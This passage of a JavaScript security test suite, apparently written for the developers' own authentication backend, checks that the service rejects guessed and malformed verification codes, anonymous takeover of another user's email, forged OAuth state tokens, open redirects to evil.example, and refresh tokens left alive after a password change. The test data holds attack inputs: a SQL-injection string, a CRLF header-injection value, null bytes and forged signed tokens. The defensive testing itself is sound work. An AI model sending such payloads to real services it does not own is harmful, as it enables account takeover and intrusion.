    const res = await call('POST', '/auth/v1/verify', { json: { type: 'magiclink', email: c.email, token }, localAddress: from });
    check(phase, route('POST', '/auth/v1/verify'), `wrong code #${i + 1}`, 'verify', res);
    if (res.status < 400) fail(phase, 'POST /auth/v1/verify', `wrong code #${i + 1}`, 'verify', 'a wrong code was accepted', res);
  }
  const late = await call('POST', '/auth/v1/verify', { json: { type: 'magiclink', email: c.email, token: code }, localAddress: from });
  check(phase, route('POST', '/auth/v1/verify'), 'right code after five wrong', 'verify', late);
  if (late.status < 400 || late.json?.access_token) fail(phase, 'POST /auth/v1/verify', 'right code after five wrong guesses', 'verify', 'the code still worked', late);
  const odd = [{ type: 'magiclink', email: c.email, token: ' ' + code }, { type: 'magiclink', email: c.email.toUpperCase(), token: '000000' },
    { type: 'signup', email: c.email, token: '000000' }, { type: 'recovery', email: c.email, token: '' }, { type: 'email_change', email: c.email, token: '0'.repeat(60) },
    { type: 'invite', email: c.email, token: '123456' }, { type: 'sms', phone: '+15555550100', token: '123456' }, { type: 'magiclink', token_hash: 'pkce_' + 'a'.repeat(56) },
    { type: 'magiclink', token_hash: "' or 1=1 --" }, { type: 'magiclink', email: c.email, token: ['123456', code] }, { type: 'magiclink', email: c.email, token: 123456 }];
  for (const body of odd) {
    const res = await call('POST', '/auth/v1/verify', { json: body, localAddress: from });
    check(phase, route('POST', '/auth/v1/verify'), `odd guess ${JSON.stringify(body).slice(0, 60)}`, 'verify', res);
    if (res.status < 400) fail(phase, 'POST /auth/v1/verify', `odd guess ${JSON.stringify(body).slice(0, 60)}`, 'verify', 'accepted', res);
  }
  for (const q of [`type=magiclink&token=${'a'.repeat(40)}&redirect_to=https%3A%2F%2Fevil.example`, 'type=recovery&token=', 'type=signup&token=%00']) {
    const res = await call('GET', `/auth/v1/verify?${q}`, { localAddress: from });
    check(phase, route('GET', '/auth/v1/verify'), `GET verify ${q.slice(0, 40)}`, q, res);
    if (/access_token=/.test(res.headers.location ?? '')) fail(phase, 'GET /auth/v1/verify', q, q, 'a guessed link signed someone in', res);
  }

  // anonymous email changes: never another user's address (in any case), never a confirmed address without mail when confirmations are on
  const settings = (await call('GET', '/auth/v1/settings')).json ?? {};
  const anonymous = await call('POST', '/auth/v1/signup', { json: {} });
  assert.equal(anonymous.status, 200, anonymous.text);
  users.push(anonymous.json.user.id);
  const anon = { id: anonymous.json.user.id, token: anonymous.json.access_token };
  const victim = await newUser('victim');
  const victimRow = () => psql(`select email || '|' || coalesce(email_confirmed_at::text, '') || '|' || encrypted_password from auth.users where id = '${victim.id}'`);
  const victimBefore = victimRow();
  const takeovers = [victim.email, victim.email.toUpperCase(), ` ${victim.email} `, victim.email.replace('@', '@@'),
    `${victim.email}\u0000`, `"${victim.email}"`, [victim.email], { email: victim.email }];
  for (const email of takeovers) {
    const res = await call('PUT', '/auth/v1/user', { token: anon.token, json: { email } });
    check(phase, route('PUT', '/auth/v1/user'), `anonymous claims ${JSON.stringify(email).slice(0, 40)}`, 'PUT /auth/v1/user', res);
    if (res.status < 400) fail(phase, 'PUT /auth/v1/user', `anonymous claims ${JSON.stringify(email).slice(0, 40)}`, 'PUT /auth/v1/user', 'accepted another user\'s address', res);
  }
  const sameAddress = psql(`select count(*) from auth.users where lower(email) = lower('${victim.email}') or lower(email_change) = lower('${victim.email}')`);
  if (sameAddress !== '1' || victimRow() !== victimBefore) fail(phase, 'PUT /auth/v1/user', 'victim', victim.email, `the victim's address was touched (${sameAddress} users hold it)`);
  const claim = `corpus-review-claim-${randomUUID().slice(0, 8)}@example.test`;
  const res = await call('PUT', '/auth/v1/user', { token: anon.token, json: { email: claim } });
  check(phase, route('PUT', '/auth/v1/user'), 'anonymous sets a new address', 'PUT /auth/v1/user', res, { mayAccept: true });
  if (settings.mailer_autoconfirm === false && res.status < 300) {
    const row = psql(`select coalesce(email, '') || '|' || coalesce(email_confirmed_at::text, '') from auth.users where id = '${anon.id}'`);
    if (row !== '|') fail(phase, 'PUT /auth/v1/user', 'anonymous sets a new address', claim, `confirmations are on, yet the address is set before any mail: ${row}`, res);
  }

  // OAuth: authorize and callback with forged, foreign or missing state never sign anybody in
  const now = Math.floor(Date.now() / 1000);
  const state = (secret, extra = {}) => hs256({ aud: 'oauth_state', exp: now + 600, iat: now, provider: 'github', redirect_to: 'https://evil.example/', nonce: randomUUID(), ...extra }, secret);
  const oauth = [
    ['GET', '/auth/v1/authorize'], ['GET', '/auth/v1/authorize?provider='], ['GET', '/auth/v1/authorize?provider=evil'],
    ['GET', '/auth/v1/authorize?provider=github&redirect_to=https%3A%2F%2Fevil.example%2F'],
    ['GET', '/auth/v1/callback'], ['GET', '/auth/v1/callback?code=forged'], ['GET', '/auth/v1/callback?code=forged&state='],
    ['GET', `/auth/v1/callback?code=forged&state=${'x'.repeat(5000)}`],
    ['GET', `/auth/v1/callback?code=forged&state=${state(DEMO_SECRET)}`],
    ['GET', `/auth/v1/callback?code=forged&state=${state(SECRET, { aud: 'authenticated' })}`],
    ['GET', `/auth/v1/callback?code=forged&state=${state(SECRET, { exp: now - 60 })}`],
    ['GET', `/auth/v1/callback?code=forged&state=${state(SECRET, { browser: 'slmgen-oauth-x', browser_hash: 'y' })}`, { cookie: 'slmgen-oauth-x=not-the-value' }],
    ['GET', `/auth/v1/callback?code=forged&state=${state(SECRET, { provider: 'github' })}`],
    ['GET', `/auth/v1/callback?code=forged&state=${state(SECRET, { flow_state_id: randomUUID() })}`],
    ['GET', `/auth/v1/callback?error=access_denied&error_description=%0d%0aX-Injected:%20yes&state=${state(DEMO_SECRET)}`],
    ['GET', `/auth/v1/callback?code=forged&state=${encodeURIComponent(user_token_like())}`],
    ['GET', '/auth/callback?code=forged&next=%2F%2Fevil.example'], ['GET', `/auth/callback?code=${randomUUID()}`],
  ];
  for (const [method, path, headers] of oauth) {
    const r = await call(method, path, { headers });
    check(phase, route(method, path), `oauth ${path.slice(0, 60)}`, path.slice(0, 120), r);
    const loc = r.headers.location ?? '';
    if (/access_token=|refresh_token=|[?&]code=[0-9a-f-]{36}/.test(loc) || r.json?.access_token) fail(phase, `${method} ${path.split('?')[0]}`, path.slice(0, 60), path, 'a session or code was issued', r);
    if (/sb-|session/i.test(String(r.headers['set-cookie'] ?? ''))) fail(phase, `${method} ${path.split('?')[0]}`, path.slice(0, 60), path, 'a session cookie was set', r);
  }
  const pkce = await call('POST', '/auth/v1/token?grant_type=pkce', { json: { auth_code: randomUUID(), code_verifier: 'v'.repeat(50) } });
  check(phase, route('POST', '/auth/v1/token'), 'pkce exchange of a guessed code', 'pkce', pkce);
  if (pkce.status < 400) fail(phase, 'POST /auth/v1/token', 'pkce exchange of a guessed code', 'pkce', 'accepted', pkce);

  // refresh tokens after a password change: the other session and the rotated token die, the current one stays
  const d = await newUser('pw');
  const second = await call('POST', '/auth/v1/token?grant_type=password', { json: { email: d.email, password: d.password } });
  assert.equal(second.status, 200, second.text);
  // the other session rotated its token before the change: its old and its new token must both die
  const secondRotated = await call('POST', '/auth/v1/token?grant_type=refresh_token', { json: { refresh_token: second.json.refresh_token } });
  assert.equal(secondRotated.status, 200, secondRotated.text);
  const rotated = await call('POST', '/auth/v1/token?grant_type=refresh_token', { json: { refresh_token: d.refresh } });
  assert.equal(rotated.status, 200, rotated.text);
  const recovery = await call('POST', '/auth/v1/admin/generate_link', { ...admin, json: { type: 'recovery', email: d.email } });
  const changed = await call('PUT', '/auth/v1/user', { token: rotated.json.access_token, json: { password: `new-${randomUUID()}` } });
  assert.equal(changed.status, 200, changed.text);
  const dead = [['the other session', secondRotated.json.refresh_token], ['the other session\'s token rotated before the change', second.json.refresh_token]];
  for (const [what, token] of dead) {
    const r = await call('POST', '/auth/v1/token?grant_type=refresh_token', { json: { refresh_token: token } });
    check(phase, route('POST', '/auth/v1/token'), `refresh: ${what}`, 'refresh', r);
    if (r.status < 400) fail(phase, 'POST /auth/v1/token?grant_type=refresh_token', `refresh: ${what}`, 'refresh', 'still refreshes after the password change', r);
  }
  // the other session's access token no longer reads the user (its session is gone)
  const otherAccess = await call('GET', '/auth/v1/user', { token: secondRotated.json.access_token });
  check(phase, route('GET', '/auth/v1/user'), 'the other session\'s access token', 'user', otherAccess);
  const old = await call('POST', '/auth/v1/token?grant_type=password', { json: { email: d.email, password: d.password } });
  if (old.status < 400) fail(phase, 'POST /auth/v1/token?grant_type=password', 'old password', 'sign-in', 'the old password still signs in', old);
  if (recovery.status === 200) {
    const r = await call('POST', '/auth/v1/verify', { json: { type: 'recovery', token_hash: recovery.json.hashed_token ?? recovery.json.properties?.hashed_token } });
    check(phase, route('POST', '/auth/v1/verify'), 'recovery link from before the change', 'verify', r);
    if (r.status < 400) fail(phase, 'POST /auth/v1/verify', 'recovery link from before the change', 'verify', 'still works after the password change', r);
  }
  const current = await call('POST', '/auth/v1/token?grant_type=refresh_token', { json: { refresh_token: rotated.json.refresh_token } });
  if (current.status !== 200) fail(phase, 'POST /auth/v1/token?grant_type=refresh_token', 'the current session', 'refresh', `the session that changed the password was ended (${current.status})`, current);
  // an admin's change ends every session, the current one included
  const byAdmin = await call('PUT', `/auth/v1/admin/users/${d.id}`, { ...admin, json: { password: `admin-${randomUUID()}` } });
  assert.equal(byAdmin.status, 200, byAdmin.text);
  if (current.status === 200) {
    const r = await call('POST', '/auth/v1/token?grant_type=refresh_token', { json: { refresh_token: current.json.refresh_token } });
    check(phase, route('POST', '/auth/v1/token'), 'refresh after an admin password change', 'refresh', r);
    if (r.status < 400) fail(phase, 'POST /auth/v1/token?grant_type=refresh_token', 'after an admin password change', 'refresh', 'a session survived', r);
  }
  assert.equal(report(phase), 0);
});

/** A real user's access token used as an OAuth state (a token of another audience must not pass). */
function user_token_like() {
  const now = Math.floor(Date.now() / 1000);
  return hs256({ sub: randomUUID(), aud: 'authenticated', role: 'authenticated', exp: now + 600, iat: now, provider: 'github', redirect_to: 'https://evil.example/' });
}

// ---- clean-up and the row counts ----

after(async () => {
  if (!before0) return;
  try {
    const ids = users.map((u) => `'${u}'`).join(',') || "'00000000-0000-0000-0000-000000000000'";
    // objects through the API (bytes and rows together), as their owners' storage admin
    for (const bucket of ['datasets', 'notebooks', 'avatars', ...buckets]) {
      const names = psql(`select name from storage.objects where bucket_id = '${bucket}' and (owner in (${ids}) or split_part(name, '/', 1) in (${ids}))`).split('\n').filter(Boolean);
      if (names.length) {
        const res = await send('DELETE', `/storage/v1/object/${bucket}`, { headers: { apikey: SERVICE_KEY, authorization: `Bearer ${SERVICE_KEY}`, 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ prefixes: names })) });
        if (res.status !== 200) console.log(`cleanup: removing ${names.length} objects from ${bucket} answered ${res.status} ${res.text.slice(0, 200)}`);
      }
    }
    for (const bucket of buckets) await send('DELETE', `/storage/v1/bucket/${bucket}`, { headers: { apikey: SERVICE_KEY, authorization: `Bearer ${SERVICE_KEY}` } });
    psql(`delete from public.jobs where user_id in (${ids}); delete from public.datasets where user_id in (${ids});
      delete from auth.users where id in (${ids}) or (created_at >= '${RUN_STARTED}' and email like 'corpus-review-%')`);
  } catch (e) {
    console.log(`cleanup failed: ${e.message}`);
  }
  const now = counts();
  const changed = TABLES.filter((t) => now[t] !== before0[t]);
  for (const t of changed) console.log(`${t}: ${before0[t]} → ${now[t]} after the review phase's clean-up`);
  console.log(`review failures: ${inv.failures.length}`);
  assert.deepEqual(changed, [], 'the review phase left rows behind (or removed rows it did not create)');
});
